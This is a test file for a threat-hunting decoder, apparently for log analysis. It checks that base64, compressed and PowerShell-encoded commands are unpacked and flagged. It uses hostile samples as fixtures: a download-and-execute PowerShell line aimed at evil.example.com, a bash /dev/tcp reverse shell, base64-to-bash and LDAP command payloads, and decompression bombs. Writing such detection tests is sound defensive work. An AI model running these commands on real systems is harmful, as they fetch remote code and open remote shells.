"""Encoded text, real and hostile."""

import base64
import bz2
import gzip
import json
import lzma
import time
import zipfile
import zlib
from pathlib import Path

import duckdb
import pandas as pd
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from huntkit.core.errors import UnknownColumn, UsageError
from huntkit.extract import decode
from huntkit.extract.layers import DecodeLimits, decode_text

SCRIPT = "Invoke-WebRequest http://evil.example.com/a.ps1 | iex"


def b64(data: bytes | str, encoding: str = "utf-8") -> str:
    return base64.b64encode(data.encode(encoding) if isinstance(data, str) else data).decode()


def texts(text: str) -> list[str]:
    return [layer.text for layer in decode_text(text)]


def test_columns_and_places():
    run = b64(SCRIPT)
    found = decode(pl.DataFrame({"a": ["no", None, f"run {run} now"]}), "a")
    assert found.columns == [
        "Input", "SourceIndex", "input_column", "Depth", "Encoding", "Decoded", "start", "end",
        "Note", "Layer", "ParentLayer", "Size", "Announced",
    ]  # fmt: skip
    row = found.row(0, named=True)
    assert (row["SourceIndex"], row["Decoded"], row["Size"]) == (2, SCRIPT, len(SCRIPT))
    assert row["Input"][row["start"] : row["end"]] == run


@pytest.mark.parametrize(
    "switch", ["-e", "-ec", "-enc", "-en", "/enc", "-EncodedCommand", "-eNcOdE", "–enc"]
)
def test_short_encoded_commands_of_powershell_are_read(switch):
    assert texts(f"powershell.exe -nop {switch} {b64('whoami', 'utf-16-le')}") == ["whoami"]


@pytest.mark.parametrize(
    ("name", "pack"),
    [
        ("gzip", gzip.compress),
        ("zlib", zlib.compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
    ],
)
def test_compressed_content_is_opened(name, pack):
    (layer,) = decode_text(b64(pack(SCRIPT.encode())))
    assert (layer.text, layer.encoding) == (SCRIPT, f"base64 > {name} > utf-8")


def test_deflate_needs_the_call_that_announces_it():
    packer = zlib.compressobj(wbits=-15)
    raw = packer.compress(SCRIPT.encode()) + packer.flush()
    assert texts(f"[Convert]::FromBase64String('{b64(raw)}')") == [SCRIPT]


def test_url_safe_unpadded_split_and_wrapped_runs():
    text = "????>>>>" + SCRIPT
    safe = base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
    assert "_" in safe or "-" in safe
    assert texts(f"token={safe};") == [text]
    run = b64(SCRIPT * 3)
    assert texts(f"$a = '{run[:30]}' + '{run[30:70]}'+'{run[70:]}'") == [SCRIPT * 3]
    assert texts("\r\n".join(run[i : i + 64] for i in range(0, len(run), 64))) == [SCRIPT * 3]


def test_layers_are_nested_with_their_parents():
    text = SCRIPT
    for _ in range(5):
        text = f"powershell -enc {b64(text, 'utf-16-le')}"
    layers = decode_text(text)
    assert [(layer.number, layer.parent, layer.depth) for layer in layers] == [
        (n, n - 1, n) for n in range(1, 6)
    ]
    assert layers[-1].text == SCRIPT


def test_depth_ends_at_the_limit_and_says_so():
    text = SCRIPT
    for _ in range(24):
        text = b64(text)
    layers = decode_text(text)
    assert len(layers) == 20
    assert layers[-1].note == "stopped: more than 20 layers"


def test_a_bomb_ends_at_the_ratio_and_says_so():
    bomb = b64(gzip.compress(b"\x41" * 50_000_000))
    start = time.process_time()
    (layer,) = decode_text(bomb, DecodeLimits(ratio=10))
    assert layer.size <= 1 << 20
    assert layer.note == "stopped: more bytes than the limit"
    nested = b64(gzip.compress(gzip.compress(gzip.compress(b"\0" * 200_000_000))))
    assert all(layer.size <= 32 << 20 for layer in decode_text(nested))
    assert time.process_time() - start < 5


def test_many_pieces_end_at_the_limit_and_say_so():
    layers = decode_text(
        " ".join(b64(f"this is piece number {n:05}") for n in range(60)), DecodeLimits(pieces=50)
    )
    assert len(layers) == 50
    assert layers[-1].note == "stopped: more than 50 pieces"


def test_programs_are_named_and_their_strings_shown():
    program = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run" + b"\xff" * 40
    (layer,) = decode_text(b64(program))
    assert layer.note == "binary: Windows program, 130 bytes"
    assert layer.text == "This program cannot be run"


@pytest.mark.parametrize(
    "text",
    [
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "{9f85ce58-59dc-5f2b-1000-000000000400}",
        r"C:\Windows\System32\SystemSettingsAdminFlows.exe SetInternetTime 1",
        "/usr/lib/x86_64-linux-gnu/systemd/systemd-networkd-wait-online",
        "https://www.example.com/some/long/path/with/many/segments/index.html?a=b",
        "Microsoft.Windows.ShellExperienceHost_cw5n1h2txyewy",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
        "A" * 100,
        "tar -e ABCD",
    ],
)
def test_plain_text_is_left_alone(text):
    assert texts(text) == []


def test_any_frame_keeps_its_kind_and_index():
    frame = pd.DataFrame({"cmd": ["x", b64(SCRIPT)], "_file": ["a", "b"]}, index=[10, 20])
    found = decode(frame, "cmd", keep=["_file"], include_input=False)
    assert found[["SourceIndex", "Decoded", "_file"]].to_numpy().tolist() == [[20, SCRIPT, "b"]]
    assert decode(b64(SCRIPT))["Decoded"].to_list() == [SCRIPT]
    with pytest.raises(UnknownColumn):
        decode(frame, "cmdd")
    with pytest.raises(UsageError):
        decode(frame, [])
    assert decode(pl.DataFrame({"a": []}), "a").height == 0


def test_all_text_columns_are_searched_when_none_is_named():
    frame = pl.DataFrame({"n": [1], "a": [b64(SCRIPT)], "_file": [b64(SCRIPT)]})
    assert decode(frame)["input_column"].to_list() == ["a"]


def test_arrow_tables_and_duckdb_relations_give_the_same_rows():
    frame = pl.DataFrame({"cmd": ["x", f"powershell -enc {b64(SCRIPT, 'utf-16-le')}"]})
    wanted = decode(frame)
    assert wanted.height == 1
    assert pl.from_arrow(decode(frame.to_arrow())).equals(wanted)
    with duckdb.connect() as connection:
        relation = decode(connection.from_arrow(frame.to_arrow()))
        assert isinstance(relation, duckdb.DuckDBPyRelation)
        assert relation.pl().equals(wanted)
    assert pl.from_pandas(decode(frame.to_pandas())).rows() == wanted.rows()


PLAIN = "Some long identity of a mailbox, nothing else"


@pytest.mark.parametrize(
    ("text", "announced"),
    [
        ('"Name": "Identity", "Value": "{}"', False),
        ("GoogleUpdate.exe /ping {}", False),
        ("zoom.exe --url=zoommtg://zoom.example/join?pwd={}", False),
        ("powershell -enc {}", True),
        ("$x = '{}'; iex ([Convert]::FromBase64String($x))", True),
        ('bash -c "{{echo,{}}}|{{base64,-d}}|{{bash,-i}}"', True),
        ("echo {} | base64 --decode", True),
        ("certutil -f -decode in out & rem {}", True),
        ("ldap://192.0.2.6:1389/Basic/Command/Base64/{}", True),
    ],
)
def test_layers_that_no_command_announces_are_marked(text, announced):
    (layer,) = decode_text(text.format(b64(PLAIN)))
    assert layer.announced is announced


@pytest.mark.parametrize(
    "data",
    [
        gzip.compress(PLAIN.encode()),
        PLAIN.encode("utf-16-le"),
        b"bash -i >& /dev/tcp/192.0.2.6/443 0>&1",
        b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run" + b"\xff" * 40,
    ],
    ids=["compressed", "utf-16", "shell", "program"],
)
def test_content_can_announce_itself(data):
    found = decode(pl.DataFrame({"value": [f"value={b64(data)}"]}))
    assert found["Announced"].to_list() == [True]


def test_what_lies_in_an_announced_layer_is_announced():
    inner = b64(PLAIN)
    assert [layer.announced for layer in decode_text(f"powershell -enc {b64(inner)}")] == [True] * 2
    assert [layer.announced for layer in decode_text(f"id={b64(inner)}")] == [False] * 2


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200) | st.text(alphabet="aA0+/=-_'\" e\r\n", max_size=400))
def test_no_text_makes_it_fail(text):
    for layer in decode_text(text):
        assert text[layer.start : layer.end] or layer.parent


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), min_size=30))
def test_what_was_encoded_comes_out_in_utf_16(text):
    run = b64(text, "utf-16-le")
    assert text in texts(f"powershell -enc {run}")


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=400))
def test_no_bytes_make_it_fail(data):
    decode_text(f"FromBase64String('{b64(data)}')")
    decode_text(f"FromBase64String('{b64(gzip.compress(data)[:-6])}')")


@pytest.mark.parametrize("unit", ["a", "A", "=", "+", "/", "-e ", "'+'", "QUJD", "base64,", "\r\n"])
def test_four_times_the_text_costs_about_four_times_the_time(unit):
    def cost(size: int) -> float:
        frame = pl.DataFrame({"text": [(unit * (size // len(unit) + 1))[:size]]})
        best = float("inf")
        for _ in range(3):
            start = time.process_time()
            decode(frame, "text")
            best = min(best, time.process_time() - start)
        return best

    small, large = cost(60_000), cost(240_000)
    assert large < 9 * max(small, 0.004)


def _events(path: Path):
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            for line in archive.read(name).splitlines():
                yield json.loads(line)


@pytest.mark.data
def test_empire_launchers_come_out_as_readable_powershell(shared_data):
    folder = shared_data / "security-datasets/atomic/windows/execution/host"
    commands = [
        event["CommandLine"]
        for event in _events(folder / "empire_launcher_vbs.zip")
        if event.get("CommandLine")
    ]
    found = decode(pl.DataFrame({"CommandLine": commands}), "CommandLine")
    first = found.filter(pl.col("Depth") == 1)["Decoded"][0]
    assert first.lower().startswith("if($psversiontable.psversion.major -ge 3)")
    assert "http://10.10.10.5" in found.filter(pl.col("Depth") == 2)["Decoded"].to_list()


@pytest.mark.data
@pytest.mark.parametrize("name", ["demo_exchange_data.csv", "mde_proc_cs1.csv"])
def test_base64_that_software_wrote_is_no_announced_command(shared_data, name):
    found = decode(pl.read_csv(shared_data / "logs" / name, infer_schema=False))
    assert found.height > 0
    assert not found["Announced"].any()


@pytest.mark.data
def test_plain_command_lines_give_no_false_layer(shared_data):
    """Figure: no false layer in 20,000 and more distinct texts: command lines, whole messages."""
    commands = {
        event[key]
        for path in sorted((shared_data / "security-datasets/atomic/windows").rglob("*.zip"))
        for event in _events(path)
        for key in ("CommandLine", "ParentCommandLine", "Message")
        if event.get(key)
    }
    assert len(commands) > 20_000
    found = decode(pl.DataFrame({"c": sorted(commands)}), "c")
    announced = found["Input"].str.contains(r"(?i)-enc\s|frombase64string")
    assert found.filter(~announced)["Decoded"].to_list() == []
    assert found["Announced"].all()
    assert found["Note"].str.starts_with("binary").sum() == 0
